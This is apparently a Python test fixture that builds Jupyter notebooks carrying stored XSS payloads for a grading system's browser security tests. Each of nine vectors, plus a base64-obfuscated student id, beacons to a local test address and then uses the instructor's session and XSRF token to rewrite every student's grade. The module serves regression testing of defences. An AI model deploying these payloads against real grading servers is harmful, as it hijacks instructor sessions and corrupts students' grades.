"""Script a student hides in a notebook for the instructor's browser (issue 32's catalogue).

Each vector, when its script runs, first asks for ``BEACON + vector`` (the browser test
answers that address and records it), then does what the issue's attacker did with the
instructor's session: through ``formgrader/api/grade`` it sets every other student's
reflection to 0 and the attacker's own to 10. The scripts hold no double quote, space or
angle bracket, so each fits in an HTML attribute, a markdown link or a folder name.
(Imported as ``xss``: pytest puts this folder on ``sys.path``.)
"""
from __future__ import annotations

import base64
from pathlib import Path

import nbformat
from nbformat import NotebookNode

BEACON = "http://127.0.0.1:9/__pwned__/"
UNIT = "11_capstone"
ATTACKER = "mallory"
GRADES = (
    "x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
    "fetch('/formgrader/api/submitted_notebooks/UNIT/UNIT')"
    ".then(function(r){return(r.json())}).then(function(subs){subs.forEach(function(s){"
    "fetch('/formgrader/api/grades?submission_id='+s.id).then(function(r){return(r.json())})"
    ".then(function(gs){gs.forEach(function(g){if(g.name=='reflection'){"
    "fetch('/formgrader/api/grade/'+g.id,{method:'PUT',headers:{'X-XSRFToken':x,"
    "'Content-Type':'application/json'},"
    "body:JSON.stringify({manual_score:(s.student=='ATTACKER')?10:0})})}})})})})"
).replace("UNIT", UNIT).replace("ATTACKER", ATTACKER)


def script(vector: str) -> str:
    """The JavaScript of one vector: the beacon, then the attack on the grades."""
    return f"fetch('{BEACON}{vector}',{{mode:'no-cors'}});{GRADES}"


def _markdown(vector: str, tag: str = "") -> str:
    js = script(tag + vector)
    return {
        "img-onerror": f'<img src=x onerror="{js}">',
        "markdown-script": f"Some text.\n\n<script>{js}</script>\n\nMore text.",
        "svg-script": f"<svg>\n<script>{js}</script>\n</svg>",
        "mermaid": f'```mermaid\n<img src=x onerror="{js}">\n```',
        "javascript-link": f"[the long answer](javascript:fetch('{BEACON}{tag}{vector}'))",
    }[vector]


def _code(vector: str, tag: str = "") -> str:
    js = script(tag + vector)
    return {
        "html-output": f'from IPython.display import HTML, display\ndisplay(HTML("<script>{js}</script>"))',
        "javascript-output": f'from IPython.display import Javascript, display\ndisplay(Javascript("{js}"))',
        "widget-view": ("import ipywidgets\nfrom IPython.display import display\n"
                        f'display(ipywidgets.HTML(value="""<img src=x onerror="{js}">"""))'),
        "markdown-output": ("from IPython.display import Markdown, display\n"
                            f'display(Markdown("""<img src=x onerror="{js}">"""))'),
    }[vector]


def _output(vector: str, tag: str) -> dict:
    """The output a vector's code cell leaves, as a notebook graded without ``inert`` holds it."""
    js = script(tag + vector)
    return {"html-output": {"text/html": f"<script>{js}</script>"},
            "javascript-output": {"application/javascript": js},
            "widget-view": {"application/vnd.jupyter.widget-view+json":
                            {"model_id": "0" * 32, "version_major": 2, "version_minor": 0}},
            "markdown-output": {"text/markdown": f'<img src=x onerror="{js}">'}}[vector]


MARKDOWN_VECTORS = ("img-onerror", "markdown-script", "svg-script", "mermaid", "javascript-link")
OUTPUT_VECTORS = ("html-output", "javascript-output", "widget-view", "markdown-output")
LINK_TEXT = "the long answer"


def notebook(source: Path, tag: str = "") -> NotebookNode:
    """The unit's notebook with the reflection answer an ``<img onerror>`` and, after the
    last cell, one markdown cell per other markdown vector and one code cell per output;
    ``tag`` goes before each vector's name in its beacon."""
    nb = nbformat.read(str(source), as_version=4)
    task = next(i for i, cell in enumerate(nb.cells)
                if cell.metadata.get("nbgrader", {}).get("grade_id") == "reflection")
    nb.cells[task + 1].source = "My reflection. " + _markdown("img-onerror", tag)
    nb.cells += [nbformat.v4.new_markdown_cell(_markdown(v, tag)) for v in MARKDOWN_VECTORS[1:]]
    nb.cells += [nbformat.v4.new_code_cell(_code(v, tag)) for v in OUTPUT_VECTORS]
    return nb


def graded_before(source: Path, tag: str) -> NotebookNode:
    """``notebook`` as grading left it before ``inert``: its outputs in place, nothing cleaned."""
    nb = notebook(source, tag)
    for cell, vector in zip(nb.cells[-len(OUTPUT_VECTORS):], OUTPUT_VECTORS):
        cell.outputs = [nbformat.v4.new_output("display_data", data=_output(vector, tag))]
    return nb


def student_id() -> str:
    """A student id that is an ``<img onerror>`` with the beacon alone (a folder name holds
    255 bytes at most): in base64, as a folder name holds no ``/``, padded until the base64
    holds none either."""
    js = f"fetch('{BEACON}student-id',{{mode:'no-cors'}})"
    while "/" in base64.b64encode(js.encode()).decode():
        js += ";"
    return f"<img src=x onerror=eval(atob('{base64.b64encode(js.encode()).decode()}'))>"
